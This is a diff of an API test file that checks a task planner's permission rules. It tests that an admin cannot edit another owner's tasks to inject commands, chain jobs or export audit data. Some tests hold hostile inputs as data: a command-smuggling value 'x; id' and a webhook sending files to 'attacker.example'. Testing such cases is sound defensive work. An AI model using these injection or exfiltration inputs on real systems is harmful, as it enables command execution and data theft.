@@ -68,14 +68,20 @@ for (const backend of await backends()) {
       assert.deepEqual(stored.jobs[0].config.arguments, ['hello']);
     });
 
-    it('may still rename, disable and reorder what it leaves alone, and is audited on behalf of the owner', async () => {
+    it('may still describe, disable and change the policy, and is audited on behalf of the owner', async () => {
       const task = await createTask({ jobs: [commandJob(['hello'])] });
-      const renamed = await otherAdmin.put(`/api/v1/tasks/${task.id}`, {
+      const described = await otherAdmin.put(`/api/v1/tasks/${task.id}`, {
         ...editable(task),
-        name: 'renamed by admin',
+        description: 'checked by the admin',
+        policy: { ...task.policy, retries: 2 },
       });
-      assert.equal(renamed.status, 200, JSON.stringify(renamed.body));
+      assert.equal(described.status, 200, JSON.stringify(described.body));
       assert.equal((await otherAdmin.post(`/api/v1/tasks/${task.id}/disable`)).status, 200);
+      const renamed = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
+        revision: described.body.revision + 1,
+        name: 'renamed; fills {task.name}',
+      });
+      assert.equal(renamed.status, 403, 'the name fills {task.name} in the program');
       const audit = await t.admin.get(`/api/v1/audit?objectId=${task.id}`);
       const update = audit.body.items.find((e: any) => e.action === 'task.update');
       assert.equal(update.actorLogin, 'taskadmin');
@@ -83,14 +89,79 @@ for (const backend of await backends()) {
       assert.equal(update.details.ownerId, ownerId);
     });
 
-    it('may add a component whose permission it holds', async () => {
-      const task = await createTask({ jobs: [commandJob(['hello'])] });
+    it('may change a task all of whose permissions it holds', async () => {
+      const task = await createTask({ jobs: [httpJob('https://example.com/a', '')] });
       const added = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
         revision: task.revision,
-        jobs: [commandJob(['hello']), httpJob('https://example.com/a', '')],
+        jobs: [
+          httpJob('https://example.com/a', ''),
+          { ...httpJob('https://example.com/b', ''), id: 'b' },
+        ],
       });
       assert.equal(added.status, 200, JSON.stringify(added.body));
       assert.equal(added.body.jobs.length, 2);
+    });
+
+    it("may not feed its own values into the owner's program through the series", async () => {
+      const task = await createTask({
+        jobs: [
+          {
+            ...commandJob(['report for {who}']),
+            config: { program: 'echo', arguments: ['{who}'] },
+          },
+        ],
+        series: { kind: 'list', config: { items: [{ who: 'north' }] } },
+      });
+      const injected = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
+        revision: task.revision,
+        series: { ...task.series, config: { items: [{ who: 'x; id' }] } },
+      });
+      assert.equal(injected.status, 403);
+      assert.match(injected.body.detail, /job program \(command\) needs 'job\.command'/);
+      const dropped = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
+        revision: task.revision,
+        series: null,
+      });
+      assert.equal(dropped.status, 403, 'nor change what the program gets by removing it');
+    });
+
+    it("may not start the owner's program with its own parameters through a next-task", async () => {
+      const program = await createTask({ name: 'program', jobs: [commandJob(['{who}'])] });
+      const starter = await createTask({ name: 'starter' });
+      const chained = await otherAdmin.patch(`/api/v1/tasks/${starter.id}`, {
+        revision: starter.revision,
+        actions: [
+          {
+            id: 'next',
+            kind: 'next-task',
+            config: { taskId: program.id, parameters: { who: 'y' } },
+          },
+        ],
+      });
+      assert.equal(chained.status, 403);
+      assert.match(chained.body.detail, /of the task 'program' it starts needs 'job\.command'/);
+    });
+
+    it("may not send what the owner's job made, which it may not see, to a destination of its own", async () => {
+      const auditor = await t.user('owner-auditor', ['taskplanner', 'audit.read', 'action.http']);
+      const created = await auditor.client.post('/api/v1/tasks', {
+        name: 'audit export',
+        jobs: [{ id: 'export', kind: 'audit-export', config: { period: 'previous-day' } }],
+      });
+      assert.equal(created.status, 201, JSON.stringify(created.body));
+      const webhookAdmin = await t.user('webhookadmin', [
+        'taskplanner',
+        'taskplanner.admin',
+        'action.http',
+      ]);
+      const leaked = await webhookAdmin.client.patch(`/api/v1/tasks/${created.body.id}`, {
+        revision: created.body.revision,
+        actions: [
+          { kind: 'webhook', config: { url: 'https://attacker.example/in', includeFiles: true } },
+        ],
+      });
+      assert.equal(leaked.status, 403);
+      assert.match(leaked.body.detail, /job export \(audit-export\) needs 'audit\.read'/);
     });
 
     it('may not transfer a task whose components it could not use itself', async () => {
